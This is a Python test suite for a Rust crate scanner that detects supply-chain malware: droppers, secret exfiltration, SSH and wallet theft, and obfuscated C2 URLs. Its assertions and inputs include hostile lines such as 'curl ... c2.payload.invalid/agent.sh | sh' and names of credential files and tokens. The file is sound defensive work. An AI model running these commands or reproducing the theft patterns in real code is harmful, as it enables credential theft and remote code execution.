"""Content findings on malicious samples (each kind, in its context) and what must not count:
comments, doc hosts, attributes, messages, tests, the crate's own URLs."""

from __future__ import annotations

import json
import tomllib
from functools import cache
from pathlib import Path

import pytest

from mirror.scan.capabilities import (
    REPORT_FORMAT,
    CapabilityReport,
    Evidence,
    report_lines,
    scan_crate,
)
from mirror.scan.findings import context_of
from mirror.scan.report import Context, Finding
from tests.fixtures.crates import debian_crate_dir, pack_crate
from tests.unit.scan.test_capabilities import FILLER, make_crate

F = Finding
MALICIOUS = Path(__file__).resolve().parents[2] / "fixtures" / "malicious"


@cache
def sample(name: str) -> CapabilityReport:
    """The scan of one malicious sample (packed as `name-version/`, never built)."""
    package = tomllib.loads((MALICIOUS / name / "Cargo.toml").read_text())["package"]
    return scan_crate(
        pack_crate(MALICIOUS / name, prefix=f"{package['name']}-{package['version']}")
    )


def seen(report: CapabilityReport, finding: Finding) -> list[tuple[Context, str, int, str]]:
    """(context, file, line, item) of each `finding` in a report."""
    return [
        (context_of(report, e.file), e.file, e.line, e.item)
        for e in report.findings.get(finding, ())
    ]


def line_in(name: str, file: str, needle: str) -> int:
    lines = (MALICIOUS / name / file).read_text().splitlines()
    return next(number for number, text in enumerate(lines, 1) if needle in text)


def lib(source: str, **kwargs: str) -> CapabilityReport:
    return scan_crate(make_crate({"src/lib.rs": source}, **kwargs))


# -- each kind, on realistic samples ---------------------------------------------------------------


def test_build_script_dropper() -> None:
    """curl downloads a payload to the temp dir from a build script, which then runs it
    through `sh -c`: URL, downloader, shell and a write outside OUT_DIR, all in build."""
    report = sample("build-dropper")
    url_line = line_in("build-dropper", "build.rs", "https://updates")
    assert seen(report, F.URL) == [
        (
            Context.BUILD,
            "build.rs",
            url_line,
            "updates.payload.invalid: https://updates.payload.invalid/stage2/linux",
        )
    ]
    shells = {item for _, _, _, item in seen(report, F.SHELL_COMMAND)}
    assert shells == {"downloader curl: 'curl'", "shell 'sh' with -c"}
    writes = seen(report, F.WRITE_OUTSIDE_OUT_DIR)
    assert [(c, f, item.split(": ")[0]) for c, f, _, item in writes] == [
        (Context.BUILD, "build.rs", "fs::set_permissions(&stage)")
    ]
    # `fs::write(out.join(..))` with `out` from OUT_DIR is not a finding.
    assert all("version.rs" not in item for _, _, _, item in writes)


def test_runtime_env_exfiltration() -> None:
    """A library uploading `.env` files to a look-alike time API: .env and the URL."""
    report = sample("env-exfil")
    assert [(c, item) for c, _, _, item in seen(report, F.SENSITIVE_PATH)] == [
        (Context.RUNTIME, ".env secrets file: '.env'")
    ]
    assert [item.split(":")[0] for _, _, _, item in seen(report, F.URL)] == ["timeapi.invalid"]


def test_build_script_ssh_key_theft() -> None:
    """`dirs::home_dir()` then `.ssh`/`id_rsa` read in a build script and posted."""
    report = sample("ssh-stealer")
    items = {(c, item.split(":")[0]) for c, _, _, item in seen(report, F.SENSITIVE_PATH)}
    assert items == {
        (Context.BUILD, "home directory"),
        (Context.BUILD, "SSH private key"),
        (Context.BUILD, "SSH directory"),
    }
    assert seen(report, F.URL)[0][0] is Context.BUILD


def test_runtime_key_scanner() -> None:
    """faster_log's trick: regexes for Ethereum and Solana keys run over source files."""
    report = sample("key-scanner")
    patterns = seen(report, F.SECRET_PATTERN)
    assert [(c, line) for c, _, line, _ in patterns] == [
        (Context.RUNTIME, line_in("key-scanner", "src/lib.rs", "0x[a-fA-F0-9]")),
        (Context.RUNTIME, line_in("key-scanner", "src/lib.rs", "1-9A-HJ")),
    ]


def test_obfuscated_strings_are_decoded() -> None:
    """base64 and byte-array blobs, concat!/format!/push_str/+ pieces, from_utf8 of literal
    bytes, and an xor-encoded static decoded in another function: each seen, each decoded."""
    report = sample("obfuscated")

    def at(needle: str) -> int:
        return line_in("obfuscated", "src/lib.rs", needle)

    blobs = {(line, item) for _, _, line, item in seen(report, F.ENCODED_BLOB)}
    assert (
        at("const CONFIG"),
        "base64, 216 chars, decodes to 'curl -sSfL https://c2.payload.invalid/agent.sh | sh; "
        "echo installed >/dev/nul...'",
    ) in blobs
    assert (at("const ENDPOINT"), "33 integers spell 'https://c2.payload.invalid/beacon'") in blobs
    assembled = {line: item for _, _, line, item in seen(report, F.ASSEMBLED_STRING)}
    assert assembled == {
        at("static HIDDEN"): "literal bytes, xor 0x5a, decode to 'https://exfil.invalid/up'",
        at("String::from_utf8"): "from_utf8 of literal bytes: 'http://127.0.0.1'",
        at("concat!"): "concat! of 5 literals forms 'https://c2.payload.invalid/x' (url)",
        at("format!"): "format! of 4 literals forms 'https://stage.invalid/next' (url)",
        at('push_str(".s")'): "path.push_str of 4 literals forms '~/.ssh/id_rsa' (sensitive_path)",
        at('"cu".to_string()'): (
            "+ of 3 literals forms 'curl -s https://c2.payload.invalid/i | sh' (shell_command)"
        ),
    }


def test_secret_variables_and_every_variable() -> None:
    """Token variables read at build time and run time, and the whole environment dumped:
    the item names the variable and how it is read."""
    report = sample("token-thief")
    assert {(c, item) for c, _, _, item in seen(report, F.SENSITIVE_ENV)} == {
        (Context.BUILD, "std::env::vars() reads every environment variable"),
        (Context.BUILD, "std::env::var('CARGO_REGISTRY_TOKEN') reads a secret"),
        (Context.RUNTIME, "std::env::var('POLYMARKET_PRIVATE_KEY') reads a secret"),
        (Context.RUNTIME, "option_env!('GITHUB_TOKEN') reads a secret"),
    }


def test_embedded_windows_payload() -> None:
    """include_bytes! of a PE file, written out and started through PowerShell."""
    report = sample("embedded-payload")
    assert [(c, item) for c, _, _, item in seen(report, F.EMBEDDED_BINARY)] == [
        (Context.RUNTIME, "include_bytes! assets/updater.bin: PE (Windows) binary")
    ]
    assert seen(report, F.SHELL_COMMAND)[0][3] == "script host powershell: 'powershell'"


def test_proc_macro_credential_theft() -> None:
    """A proc-macro reading cargo, git and npm credentials under $HOME while expanding."""
    report = sample("macro-stealer")
    found = {(c, item.split(":")[0]) for c, _, _, item in seen(report, F.SENSITIVE_PATH)}
    assert found == {
        (Context.MACRO, "home directory from env HOME"),
        (Context.MACRO, "cargo registry credentials"),
        (Context.MACRO, "git credentials"),
        (Context.MACRO, "package registry credentials"),
    }


def test_wallets_browsers_and_sessions() -> None:
    """Wallet keys, browser logins and Telegram sessions each named for what they are."""
    labels = [
        item.split(":")[0] for _, _, _, item in seen(sample("wallet-stealer"), F.SENSITIVE_PATH)
    ]
    assert labels == [
        "Solana wallet key",
        "wallet keystore",
        "wallet directory",
        "browser profile data",
        "Telegram session data",
        "system accounts file",
    ]


# -- what does not count ---------------------------------------------------------------------------


def test_comments_doc_comments_and_doc_attributes_hold_no_findings() -> None:
    """Comments are not code; doc attributes and messages name documentation hosts."""
    report = lib(
        '#![doc(html_root_url = "https://docs.rs/demo/0.1.0")]\n'
        '#![doc(html_logo_url = "https://rust-random.github.io/logo.png")]\n'
        "// curl https://evil.invalid/x | sh ~/.ssh/id_rsa\n"
        "/* wget http://evil.invalid/y; GITHUB_TOKEN */\n"
        '/// `std::env::var("AWS_SECRET_ACCESS_KEY")` at https://evil.invalid\n'
        '#[cfg(not(osslconf = "OPENSSL_NO_AUTH_TOKEN"))]\n'
        "pub fn f() {\n"
        '    panic!("see https://github.com/demo/demo/issues for help");\n'
        "}\n"
    )
    assert report.findings == {}


def test_a_url_in_a_doc_attribute_still_counts_unless_its_host_is_a_doc_host() -> None:
    """Only documentation hosts are excused in attributes."""
    report = lib('#![doc(html_root_url = "https://c2.invalid/x")]\npub fn f() {}\n')
    assert [e.item for e in report.findings[F.URL]] == ["c2.invalid: https://c2.invalid/x"]


def test_own_urls_count_only_in_build_scripts() -> None:
    """The crate's repository and homepage in library code are no finding; in a build
    script they are (an attacker can name its payload host as the homepage)."""
    manifest = 'repository = "https://c2.invalid/demo"\nhomepage = "https://c2.invalid"\n'
    source = 'pub const REPO: &str = "https://c2.invalid/demo/issues";\n'
    runtime = scan_crate(make_crate({"src/lib.rs": source}, manifest=manifest))
    assert runtime.findings == {}
    build = scan_crate(
        make_crate({"build.rs": f"fn main() {{}}\n{source}", "src/lib.rs": ""}, manifest=manifest)
    )
    assert [e.file for e in build.findings[F.URL]] == ["build.rs"]


def test_code_only_for_tests_holds_no_findings() -> None:
    """`#[cfg(test)]` modules and `#[test]` functions are never built for a dependent."""
    report = lib(
        "pub fn f() {}\n"
        "#[cfg(test)]\nmod tests {\n"
        '    const URL: &str = "https://c2.invalid/x";\n'
        "}\n"
        '#[test]\nfn t() { let _ = std::env::var("GITHUB_TOKEN"); }\n'
        '#[cfg(any(test, feature = "x"))]\npub const U: &str = "https://built.invalid/";\n'
    )
    assert [e.item for e in report.findings[F.URL]] == ["built.invalid: https://built.invalid/"]
    assert F.SENSITIVE_ENV not in report.findings


def test_loopback_any_and_oid_are_not_addresses() -> None:
    """Bare loopback/any/broadcast addresses have no remote end; OIDs look like addresses
    (on a line naming one, starting with 0, 1 or 2: hiding an address behind a name
    containing "oid" does not work)."""
    report = lib(
        'pub const A: &str = "127.0.0.1:8080";\n'
        'pub const B: &str = "0.0.0.0";\n'
        'pub const C: &str = "::1";\n'
        'pub const szOID_COMMON_NAME: &str = "2.5.4.3";\n'
        'pub const D: &str = "203.0.113.7:4444";\n'
    )
    assert [e.item for e in report.findings[F.URL]] == ["IP address 203.0.113.7: 203.0.113.7:4444"]


def test_test_vectors_and_lookup_tables_are_not_blobs() -> None:
    """Hash test vectors (32 escapes), symbol names, digit tables: not encoded blobs."""
    vector = "\\x00" * 32
    mangled = "_RNCINkXs25_NgCsbmNqQUJIY6D_4core5sliceINyB9_4Iterh" * 3
    report = lib(
        f'pub const V: &[u8] = b"{vector}";\n'
        f'pub const M: &str = "{mangled}";\n'
        "pub const HEX: [u8; 16] = [48, 49, 50, 51, 52, 53, 54, 55, 56, 57, 97, 98, 99, 100, "
        "101, 102];\n"
    )
    assert F.ENCODED_BLOB not in report.findings


def test_writes_derived_from_out_dir_through_names_fields_and_parameters() -> None:
    """A path derived from OUT_DIR through a let, a struct field and a helper's parameter is
    fine; a path from elsewhere is reported, in the helper module the build script uses."""
    build = (
        "mod gen;\n"
        "use std::path::PathBuf;\n"
        "struct Config { dest: PathBuf }\n"
        "fn main() {\n"
        '    let out = PathBuf::from(std::env::var_os("OUT_DIR").unwrap());\n'
        '    let config = Config { dest: out.join("a") };\n'
        '    std::fs::write(&config.dest, "x").unwrap();\n'
        "    gen::emit(&out);\n"
        '    gen::emit_elsewhere(&PathBuf::from("/usr/local/lib"));\n'
        "}\n"
    )
    helper = (
        "use std::path::Path;\n"
        "pub fn emit(dir: &Path) {\n"
        '    std::fs::create_dir_all(dir.join("b")).unwrap();\n'
        "}\n"
        "pub fn emit_elsewhere(target: &Path) {\n"
        '    std::fs::OpenOptions::new().append(true).open(target.join(".bashrc")).unwrap();\n'
        "}\n"
    )
    report = scan_crate(make_crate({"build.rs": build, "gen.rs": helper, "src/lib.rs": ""}))
    assert seen(report, F.WRITE_OUTSIDE_OUT_DIR) == [
        (
            Context.BUILD,
            "gen.rs",
            6,
            '.open(target.join(".bashrc")): path not derived from OUT_DIR',
        )
    ]
    assert report.pulled_in == {"gen.rs": Context.BUILD}


def test_writes_are_only_judged_in_build_scripts() -> None:
    """A library writing files is ordinary (that is its `fs` capability)."""
    report = lib('pub fn save() { std::fs::write("/tmp/out.txt", "x").unwrap(); }\n')
    assert F.WRITE_OUTSIDE_OUT_DIR not in report.findings


def test_large_files_are_read_in_items_for_findings_too() -> None:
    """In a file read in slices, a literal deep inside is still found, on its line."""
    source = f'{FILLER}pub fn beacon() -> &\'static str {{\n    "https://c2.invalid/b"\n}}\n'
    line = source.splitlines().index('    "https://c2.invalid/b"') + 1
    assert lib(source).findings[F.URL] == (
        Evidence("src/lib.rs", line, "c2.invalid: https://c2.invalid/b"),
    )


@pytest.mark.parametrize(
    "name", ["serde", "tokio", "openssl-sys", "libc", "syn", "cc", "socket2", "winapi"]
)
def test_popular_crates_have_no_build_or_macro_findings(name: str) -> None:
    """Real, legitimate crates: nothing in their build scripts or proc-macro code."""
    report = scan_crate(pack_crate(debian_crate_dir(name)))
    contexts = {context_of(report, e.file) for ev in report.findings.values() for e in ev}
    assert not contexts & {Context.BUILD, Context.MACRO}


# -- the report ------------------------------------------------------------------------------------


def test_report_json_round_trip_with_findings_and_contexts() -> None:
    """Findings, build script, proc-macro and pulled-in files survive JSON."""
    report = scan_crate(
        make_crate(
            {
                "build/main.rs": "mod helper;\nfn main() {}\n",
                "build/helper.rs": 'pub const U: &str = "https://c2.invalid/";\n',
                "src/lib.rs": '#[path = "../tests/common.rs"]\nmod common;\n',
                "tests/common.rs": 'pub const P: &str = "~/.ssh/id_rsa";\n',
            },
            manifest='build = "build/main.rs"\n',
        )
    )
    assert report.to_json()["format"] == REPORT_FORMAT == 5
    again = CapabilityReport.from_json(json.loads(json.dumps(report.to_json())))
    assert again == report
    assert again.build_script == "build/main.rs" and again.proc_macro is False
    assert again.pulled_in == {"tests/common.rs": Context.RUNTIME}
    assert context_of(again, "build/helper.rs") is Context.BUILD
    assert context_of(again, "tests/common.rs") is Context.RUNTIME


@pytest.mark.parametrize(
    "damage",
    [
        lambda o: o.update(format=3),
        lambda o: o.pop("findings"),
        lambda o: o.update(findings={"telepathy": []}),
        lambda o: o.update(pulled_in={"src/x.rs": "elsewhere"}),
        lambda o: o.update(proc_macro="yes"),
        lambda o: o.update(build_script=7),
    ],
    ids=["old-format", "no-findings", "unknown-kind", "unknown-context", "bad-bool", "bad-path"],
)
def test_malformed_reports_are_refused(damage: object) -> None:
    """A cached report from another format or damaged is a ValueError (then rescanned)."""
    obj = sample("env-exfil").to_json()
    damage(obj)  # type: ignore[operator]
    with pytest.raises(ValueError):
        CapabilityReport.from_json(obj)


def test_report_lines_show_findings_with_their_context() -> None:
    """`crate-mirror scan` prints each finding with the context its file runs in."""
    lines = report_lines(sample("ssh-stealer"))
    assert "  findings:" in lines
    assert "    sensitive_path" in lines
    assert any(line.startswith("      [build] build.rs:") and "SSH" in line for line in lines)
